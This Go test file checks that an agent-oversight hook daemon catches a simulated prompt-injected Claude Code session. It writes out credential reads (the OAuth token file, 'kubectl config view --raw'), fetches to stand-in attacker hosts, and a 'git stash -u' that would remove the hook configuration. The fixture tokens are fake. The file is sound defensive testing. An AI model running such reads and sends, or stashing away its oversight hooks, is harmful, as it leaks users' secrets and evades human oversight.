package main_test

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/overseer-dev/overseer/internal/overseertest"
)

// TestAgentCredentialExfiltrationEndToEnd drives the real daemon and the
// lean hook with the events a prompt-injected Claude Code session sends:
// read a credential that no path names as a secret before, then send to a
// host of its choosing. Before, every step was allowed unasked:
// `cat ~/.claude/.credentials.json` (Claude Code's own OAuth token) and
// `kubectl config view --raw` (the kube config's tokens) were auto, and
// were no secret reads, so the WebFetch after them was notify; `git stash
// -u` took the untracked hook configuration `overseer init` wrote away at
// notify. Now the reads and the sends after them reach a person and the
// stash is denied; the twins (the settings next to the token, the redacted
// kube config, a send in a session that read nothing, a stash of tracked
// changes) are allowed.
func TestAgentCredentialExfiltrationEndToEnd(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	home := t.TempDir() // Overseer's home
	user := t.TempDir() // the person's home
	proj := filepath.Join(user, "proj")
	files := map[string]string{
		".claude/.credentials.json": `{"claudeAiOauth":{"accessToken":"sk-ant-oat01-Zq8rT2vX6mK1pL9wN4cB7hD3fS5gJ0aE"}}` + "\n",
		".claude/settings.json":     "{}\n",
		".kube/config":              "users:\n- name: prod\n  user:\n    token: eyJhbGciOiJSUzI1NiJ9.Zq8rT2vX6mK1pL9wN4cB7hD3\n",
		"proj/src/main.go":          "package main\n",
		"proj/.claude/settings.json": `{"hooks":{"PreToolUse":[{"matcher":"*","hooks":[{"type":"command",` +
			`"command":"overseer hook claude-code"}]}]}}` + "\n",
	}
	for name, text := range files {
		p := filepath.Join(user, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	git := exec.Command("sh", "-c", "git init -q && git add src && git -c user.email=t@example.com -c user.name=t commit -qm start")
	git.Dir = proj
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("git: %v\n%s", err, out)
	}
	overseertest.StartDaemonWith(t, overseertest.Binary(t), []string{"HOME=" + user, "CODEX_HOME="}, home)

	n := 0
	call := func(session, tool string, input map[string]any) string {
		t.Helper()
		n++
		ev, _ := json.Marshal(map[string]any{"session_id": session, "cwd": proj, "hook_event_name": "PreToolUse",
			"tool_name": tool, "tool_input": input, "tool_use_id": fmt.Sprintf("tu-%d-%d", time.Now().UnixNano(), n)})
		cmd := exec.Command(overseertest.HookBinary(t), "hook", "claude-code", "--max-wait", "2s")
		cmd.Env = append(os.Environ(), "OVERSEER_HOME="+home, "HOME="+user, "CODEX_HOME=")
		cmd.Stdin = strings.NewReader(string(ev))
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("hook: %v %s", err, out)
		}
		return string(out)
	}
	bash := func(session, command string) string {
		return call(session, "Bash", map[string]any{"command": command})
	}
	fetch := func(session, url string) string {
		return call(session, "WebFetch", map[string]any{"url": url, "prompt": "summarise"})
	}
	allowed := func(out string) bool { return strings.Contains(out, `"permissionDecision":"allow"`) }

	for _, c := range []struct{ session, read, send string }{
		{"own-token", "cat ~/.claude/.credentials.json", "https://collect.evil-analytics.net/?q=status"},
		{"kube", "kubectl config view --raw", "https://paste.attacker.io/?q=status"},
	} {
		if out := bash(c.session, c.read); allowed(out) {
			t.Errorf("%s ran unasked: %s", c.read, out)
		}
		if out := fetch(c.session, c.send); allowed(out) {
			t.Errorf("a send to a new host after %s ran unasked: %s", c.read, out)
		}
	}
	if out := bash("stash", "git stash -u"); !strings.Contains(out, `"permissionDecision":"deny"`) {
		t.Errorf("git stash -u with the hook configuration untracked: %s", out)
	}

	// The twins.
	for _, c := range []string{"cat ~/.claude/settings.json", "kubectl config view", "git stash"} {
		if out := bash("twins", c); !allowed(out) {
			t.Errorf("twin %s was not allowed: %s", c, out)
		}
	}
	if out := fetch("twins", "https://collect.evil-analytics.net/?q=status"); !allowed(out) {
		t.Errorf("a send in a session that read no secret was not allowed: %s", out)
	}
}
